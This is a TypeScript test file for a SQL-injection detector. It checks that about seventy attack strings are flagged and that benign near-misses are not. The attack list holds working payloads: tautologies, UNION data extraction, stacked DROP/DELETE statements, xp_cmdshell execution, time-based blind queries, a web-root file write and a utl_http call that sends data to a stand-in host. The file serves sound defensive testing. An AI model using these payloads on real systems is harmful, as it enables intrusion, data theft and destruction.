import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Match } from "../../detector.ts";
import { sqlInjection } from "./sql-injection.ts";

function detect(value: string): Match | undefined {
  return sqlInjection.detect({
    location: "query",
    name: "q",
    value,
    part: "value",
    type: "string",
  });
}

/** Processor time, which other work on the machine does not stretch. */
function cpuMsOf(value: string): number {
  const started = process.cpuUsage();
  detect(value);
  const { user, system } = process.cpuUsage(started);
  return (user + system) / 1000;
}

const attacks: readonly (readonly [what: string, value: string])[] = [
  ["is always true behind a number", "7 or 7=7"],
  ["is always true inside single quotes", "x' or 'b'='b"],
  ["is always true inside double quotes", 'x" or "b"="b'],
  ["is always true inside backticks", "x` or `b`=`b"],
  ["is always true with a column on both sides", "3 or name=name"],
  ["is always true by a pattern", "n' or 'q' like 'q"],
  ["is always false, for a blind comparison", "12 and 4=5"],
  ["closes parentheses and opens them again", "8')) or (('k'='k"],
  ["needs no blanks", "4'or'1'='1"],
  ["joins with bars", "'||'a'='a"],
  ["joins with ampersands", "9' && 2=2 -- "],
  ["repeats the number that was there", "1 or 1"],
  ["appends a second query", "-5 union select 1,2,user from accounts"],
  ["appends a second query of names only", "0 union select login from members --"],
  ["appends a second query in parentheses", "6)union(select(1),(2))#"],
  ["appends a query with comments for blanks", "2/**/union/**/all/**/select/**/null,null"],
  ["appends a query in a comment that MySQL runs", "2/*!50000union*//*!50000select*/1,2"],
  ["appends a query behind a dropped number", "1.e union select 1.e(2),3"],
  ["appends a query that is cut off", "9' union select 1,concat_ws(0x3a,version(),us"],
  ["cuts off a password check", "root'--"],
  ["cuts off a password check with a hash", "root'#"],
  ["cuts off with an open comment", "root')/*"],
  ["cuts off with a NUL", "root' or 1=1\0 and more"],
  ["starts a second statement", "5; drop table orders"],
  ["starts a second statement inside quotes", "a'); delete from orders where 'a'='a"],
  ["inserts a row", "x'); insert into admins values ('me','pw') --"],
  [
    "starts a second statement without a semicolon",
    "u' declare @q varchar(99) set @q=0x41 exec(@q)--",
  ],
  ["runs a program", "1; exec master..xp_cmdshell 'ver'"],
  ["waits on MySQL", "3 and sleep(9)"],
  ["waits on PostgreSQL", "3;select pg_sleep(9)--"],
  ["waits on SQL Server", "3' waitfor delay '0:0:9'--"],
  ["waits on Oracle", "3 and 1=dbms_pipe.receive_message('a',9)"],
  ["waits on SQLite", "3 and 1=like('abc',upper(hex(randomblob(99999999))))"],
  ["leaks through an error", "1 and extractvalue(1,concat(0x5c,database()))"],
  ["leaks through a conversion", "1 and 1=convert(int,(select top 1 name from users))"],
  ["calls out", "'||utl_http.request('http://x.example/'||user)||'"],
  ["asks about one character", "5 and ascii(substring(user(),1,1))>77"],
  ["asks in a case", "(case when 3=3 then price else name end)"],
  ["asks inside a concatenation", "a'||(select 'x' from dual where 2=2)||'"],
  ["asks with arithmetic", "7*(select 0 from users where id=1 and 1=1)"],
  ["sorts by a query", "price,(select 1 from users limit 1)"],
  ["counts the columns", "4 order by 12--"],
  ["counts the columns inside quotes", "4' order by 12#"],
  ["comes behind limit", "10 procedure analyse(extractvalue(1,1),1)"],
  ["writes a file", "1 into outfile '/var/www/x.php'"],
  ["belongs into an insert", "x',now(),(select password from users limit 1))-- "],
  ["asks with JSON operators", '1 or \'{"b":2}\'::jsonb <@ \'{"a":1,"b":2}\'::jsonb'],
  ["uses a quote of another width", "x＇ or ＇1＇=＇1"],
  ["hides behind a backslash", "\\'' or 1=1 --"],
  ["uses line ends for blanks", "1\nor\n2=2"],
  ["uses braces for parentheses", "1 or {x 1}=1"],
  ["hides behind a line comment", "1#a\nunion#b\nselect 2,3"],
  ["begins a query that is to be continued", "1 /**/union/**/select"],
  ["begins a query behind a string", "';select p"],
  ["is the end of a union", "-234 union"],
  ["hides the rest behind a constant", "@@version--"],
  ["asks who it is, cut off", "current_user("],
  ["asks what the server is", "mid(@@hostname,1,1)"],
  ["reads the database's own tables, cut off", "from information_schema."],
  ["is a whole question", "case when 's' then 3 end"],
  ["is nothing but a position", " order by 7 "],
  ["is nothing but a condition", " or true"],
  ["is a query of constants", "select 1,2,3,4,5 from users"],
  ["is a query that spells out text", "select 0x7461626c65 from t"],
  ["is a query with a comment behind", "select a, b from users where c=1 -- x"],
  ["is an operator between two strings", "A 'OR' B"],
  ["ends a quoted name", "` AS `user_id` from"],
  ["waits, cut off", "\" WAITFOR DELAY '"],
  ["compares a typed literal", "'[1, 2]'::jsonb || '3'::jsonb"],
  ["stands behind the rest of a query string", "sort=up&id=5 or 1=1"],
  ["stands behind an address", "https://shop.example/?q=a' or 1=1--"],
];

const nearMisses: readonly (readonly [what: string, value: string])[] = [
  ["an Irish name", "O'Brien"],
  ["two Irish names", "O'Brien or O'Neill"],
  ["a plural possessive", "the dogs' and cats' dinner"],
  ["a year in short", "the summer of '69 or '70"],
  ["rock and roll", "rock 'n' roll"],
  ["prose with a union", "Select the best union members"],
  ["prose with a union and a list", "the union selects candidates, members, and 2 guests"],
  ["a choice of numbers", "1 or 2 items"],
  ["a choice of years", "1950 or 1960"],
  ["inches", '5" x 7"'],
  ["inches and a fraction", '2 3/4" - vintage'],
  ["feet and inches", "6' 2\" or taller"],
  ["a dash behind a word", "it's; -- great"],
  ["a hash tag", "dinner at Joe's #food"],
  ["a search for two phrases", '"rose gold" and "white gold"'],
  ["a search without a word", "lamp -table -'floor lamp'"],
  ["a search for a phrase that is an operator", '"like" stamp'],
  ["a drop in prose", "please wash; drop off at the table"],
  ["a statement in prose", "Select a color from the list where available"],
  ["an update in prose", "update set for spring; insert coin to continue"],
  ["a having in prose", "I like having true friends"],
  ["an order in prose", "Order by 5 pm for delivery by 6"],
  ["a limit in prose", "limit 2 per customer; call when you get here"],
  ["an equation", "a=1 and b=2"],
  ["a filter of an API", "status eq 'open' and total gt 100"],
  ["a filter like SQL", "status = 'open' and total > 100"],
  ["a ratio", "16:9 or 4:3"],
  ["a phone number", "+1 (917) 666-0987"],
  ["a date and time", "01/Dec/2011:20:45:25 +0100"],
  ["a size in parentheses", 'laptop case (13") with monogram'],
  ["a chemical formula", "2 H2 + O2 -> 2 H2O; 4,4'-bipyridine"],
  ["a file path", "C:\\Program Files (x86)\\app\\data.db"],
  ["a base64 text", "U2VsZWN0IHRoZSBiZXN0+dW5pb24/bWVtYmVycw=="],
  ["a regular expression", "^[a-z']+(\\s|')*$"],
  ["a style sheet", "p::after { content: '-'; color: #fff; }"],
  ["JavaScript that joins", "document.write('<a href=' + url + '>')"],
  ["JavaScript that splits", "parts = text.split('-').join(', ')"],
  ["JavaScript that selects", "$('#menu').on('click', f)"],
  ["a shell option", "git commit -m 'fix' --amend"],
  ["a condition in code", "if (a == 'x' || b == 'y') { return 1; }"],
  ["Markdown", "* **bold** and `code` -- see [here](a.md#top)"],
  ["an e-mail header", "=?utf-8?Q?Gr=C3=BC=C3=9Fe?= <a@b.example>; (comment)"],
  ["an accept header", "text/html, application/xml;q=0.9, */*;q=0.8"],
  ["a browser", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"],
  ["JSON", '{"select": "*", "from": ["a", "b"], "limit": 5}'],
  ["a table in text", "a | b | c\n--|--|--\n1 | 2 | 3"],
  ["an address with quotes", "calle 'la unión', s/n, 7-f"],
  ["a template", '{% $NUM|format:"%D" %} views'],
  ["a list of numbers with dashes", "555-0199--"],
  ["a pattern for paths", "2024/*"],
  ["a version in a call of a method", "program.version('0.0.1');"],
  ["options of a command", "select -v #1 -- a"],
  ["the end of a sentence", "and 4.3"],
  ["a count of things", "12 union members"],
  ["a case in prose", "the case when they left and then came back"],
  ["nothing", ""],
  ["a single quote", "'"],
];

describe("SQL injection", () => {
  test.each(attacks)("flags a value that %s", (_what, value) => {
    expect(["medium", "high"]).toContain(detect(value)?.confidence);
  });

  test.each(nearMisses)("leaves %s below the threshold of a block", (_what, value) => {
    expect(["medium", "high"]).not.toContain(detect(value)?.confidence);
  });

  test.each([
    ["select id, name from items where price > 5 order by name"],
    ["SELECT a FROM t1 UNION SELECT b FROM t2"],
    ["update items set price = 3 where id = 4"],
    ["create table notes (id integer primary key, text text)"],
  ])("is at most mildly interested in the whole statement %s", (value) => {
    expect(["medium", "high"]).not.toContain(detect(value)?.confidence);
  });

  test.each([
    ["$.sql", "select 1,2,3,4 from t where a = 0x41424344"],
    ["$.job.query", "select version()"],
    ["$.statement", "select a from pg_roles"],
  ])("leaves a whole statement in the field %s, which is for statements, to it", (name, value) => {
    const field = { location: "body", name, value, part: "value", type: "string" } as const;
    expect(sqlInjection.detect(field)?.confidence).toBe("low");
  });

  test("is surer the more of the structure changes", () => {
    expect(detect("1950 or 1960")).toBeUndefined();
    expect(detect("select id from items")?.confidence).toBe("low");
    expect(detect("1 or 1")?.confidence).toBe("medium");
    expect(detect("1 or 1=1")?.confidence).toBe("high");
  });

  test("is less sure when the value is a quotation within prose", () => {
    const text = "Please tell the students why typing 1 or 1=1 into the form logs them in";
    expect(detect(text)?.confidence).toBe("low");
  });

  test("shows the part that decided and says what the database would make of it", () => {
    const value = "smith' or '1'='1";
    const match = detect(value);

    expect(value.slice(match?.start, match?.end)).toBe("' or '1'='1");
    expect(match?.explanation).toBe(
      "Put into a SQL statement inside '…', which it ends itself, the value adds a condition that is the same for every row (`or '1'='1`).",
    );
  });

  test.each([
    ["quotes", "'"],
    ["doubled quotes apart", "'' "],
    ["backslashes before quotes", "\\'"],
    ["parentheses", "("],
    ["closing parentheses", "1)"],
    ["open comments", "/*"],
    ["comments", "/**/"],
    ["conditional comments", "/*!1 "],
    ["dollar quotes", "$a$b"],
    ["conditions", "1 or "],
    ["conditions with open quotes", "or 'a "],
    ["unions", "union select 1 "],
    ["statements", ";select "],
    ["nested cases", "case when "],
    ["nested queries", "(select "],
    ["signs", "-"],
    ["brackets", "["],
    ["dropped numbers", "1.e"],
    ["anchors", "a or(b) "],
    ["Oracle quotes", "q'["],
    ["blanks", " \t\n"],
    ["prose", "the order of the union and the others; select one "],
  ])("reads a megabyte of %s in linear time", (_what, pump) => {
    const small = pump.repeat(Math.ceil(250_000 / pump.length));
    cpuMsOf(small);
    const smallMs = cpuMsOf(small);

    // Four times the length; quadratic reading would take sixteen times as long.
    expect(cpuMsOf(small.repeat(4))).toBeLessThan(Math.max(400, smallMs * 10));
  });

  test("never throws, and keeps the match within the value", () => {
    const pieces = fc.constantFrom(
      ...["'", '"', "`", "(", ")", "--", "#", "/*", "*/", "/*!", ";", ",", "\\", "\n", "@@", "$$"],
      ...[
        "1",
        " or ",
        "union",
        " select ",
        "case when",
        "a",
        "=",
        "||",
        "{",
        "[",
        "]",
        "q'[",
        "\0",
      ],
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string())), (parts) => {
        const value = parts.join("");
        const match = detect(value);
        if (match === undefined) return;
        expect(match.start).toBeGreaterThanOrEqual(0);
        expect(match.end).toBeGreaterThan(match.start);
        expect(match.end).toBeLessThanOrEqual(value.length);
      }),
      { numRuns: 2000 },
    );
  });
});
